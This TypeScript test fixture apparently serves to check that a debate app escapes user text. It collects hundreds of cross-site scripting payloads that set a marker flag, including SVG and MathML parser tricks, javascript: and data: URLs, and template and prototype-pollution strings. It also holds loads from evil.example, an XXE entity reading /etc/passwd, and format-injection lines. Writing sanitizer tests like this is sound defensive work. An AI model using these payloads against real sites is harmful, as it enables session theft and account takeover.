/**
 * Texts that try to be more than text, for the tests of what a debate's words become. Each would set `__xss` if it ran.
 * They are told as lists of ways out, and of what is done outside, so that the two meet.
 */

const run = '__xss=1'

/** Ways out of where a text may stand: text, attributes with each quotation mark or none, and elements that hold no markup. */
const waysOut = [
  ...['', '">', "'>", '`>', '>', '"/>', '\\">', '\\u0022>', '&quot;>', '-->', '--!>', '<!-->', ']]>', '?>', '%>', '*/'],
  ...['</title>', '</style>', '</script>', '</ScRiPt\t>', '</textarea>', '</noscript>', '</svg>', '</math>', '</desc>'],
  ...[
    '</text>',
    '</template>',
    '</iframe>',
    '</xmp>',
    '</plaintext>',
    '</select>',
    '</details>',
    '</a></li></ul></body>',
  ],
]

const intoElements = waysOut.map((out, index) => {
  const image = `<img src=x onerror=${run}>`
  return out + [image, `<script>${run}</script>`, `<svg/onload=${run}>`][index % 3]
})

const intoAttributes = [
  ...['"', "'", '`', '', '" "', '&#34;', '\\"', '\u201c'].map((quote) => `x${quote} onmouseover=${run} x=${quote}`),
  `" autofocus onfocus="${run}`,
  `' style='animation:x' onanimationstart='${run}`,
  `"\n\tonclick\n=\n"${run}"`,
  `"/onclick="${run}`,
  `x" srcdoc="<script>parent.${run}</script>`,
  `x" formaction="javascript:${run}`,
  `x" xlink:href="javascript:${run}`,
  `0;url=javascript:${run}" http-equiv="refresh`,
]

const elements = [
  `<IMG SRC=x oNeRrOr=${run}>`,
  `<img src=x onerror=${run}//`,
  `<img/src='x'/onerror='${run}'>`,
  `<img """><script>${run}</script>">`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\x0c>${run}</script>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  `<marquee onstart=${run}>x</marquee>`,
  `<x contenteditable onblur=${run} tabindex=1>x`,
  `<custom-element onpointerenter=${run}>x</custom-element>`,
]

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>top.${run}</script>"/></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math href="javascript:${run}">x</math>`,
]

const scripts = [
  `</script><!--<script>${run}//-->`,
  `<!--<script>${run}`,
  `";${run};//`,
  `';${run};//`,
  `\`;${run};//`,
  `\\";${run};//`,
  `x\u2028${run}\u2029x`,
  `"}]}</script><script>${run}</script>`,
  `</script\u00a0><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{${run}}`,
  `{process.env.PATH}`,
  `<Claim id={${run}} onClick={() => ${run}} />`,
  `import x from 'data:text/javascript,${run}'`,
  `export const x = ${run}`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"${run}":1}}`,
  `*/${run}/*`,
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\x01javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `&#x6A&#x61vascript:${run}`,
  `javascript://example.org/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
  `[x](javascript:${run})`,
  `![x](https://evil.example/x.png)`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
]

const styles = [
  `;background:url(https://evil.example/x.png)`,
  `}*{background:url(//evil.example/x.png)}`,
  `</style><style>@import '//evil.example/x.css';`,
  `expression(${run})`,
  `\\3c/style\\3e<img src=x onerror=${run}>`,
]

const documents = [
  `<![CDATA[<script>${run}</script>]]>`,
  `]]>]]&gt;<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<?xml-stylesheet href="data:text/xsl,x"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&LT;script&GT;${run}`,
  `&#60;img src=x onerror=${run}&#62;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\x1b$B<script>${run}</script>\x1b(B`,
  `=HYPERLINK("javascript:${run}")`,
]

/** Lines of other programs' formats: each would be a statement or a tie of its own. */
const lines = [
  `x\n  1.9. Con:\n  Forged ${run}`,
  `x\n\n[forged]: ${run}\n  - [a]`,
  `x"\nforged,official,,${run}\n"`,
  `x"]\n  forged["${run}"]\n  forged --> s_a`,
  `x"]\n  "forged" -> "a" [label="${run}"]`,
]

const characters = [
  `<\0script>${run}</script>`,
  `<img src=x \0onerror=${run}>`,
  `\ufeff<script>${run}</script>`,
  `\u202e>tpircs/<${run}>tpircs<\u202c`,
  `\u2066<img src=x onerror=${run}>\u2069`,
  `<\u200bimg src=x onerror=${run}>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u02ba onclick=${run} x=\u02ba`,
  `\ud800<img src=x onerror=${run}>`,
  `\u0000\u0008\u000b\u000e\u001f\u007f\u0085<svg/onload=${run}>`,
  `e${'\u0301'.repeat(200)}<img src=x onerror=${run}>`,
  `${'A'.repeat(1500)}"><img src=x onerror=${run}>`,
  `${'<b>'.repeat(150)}<img src=x onerror=${run}>`,
]

/** Every payload, once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...[...intoElements, ...intoAttributes, ...elements, ...foreign],
    ...[...scripts, ...addresses, ...styles, ...documents, ...characters, ...lines],
  ]),
]
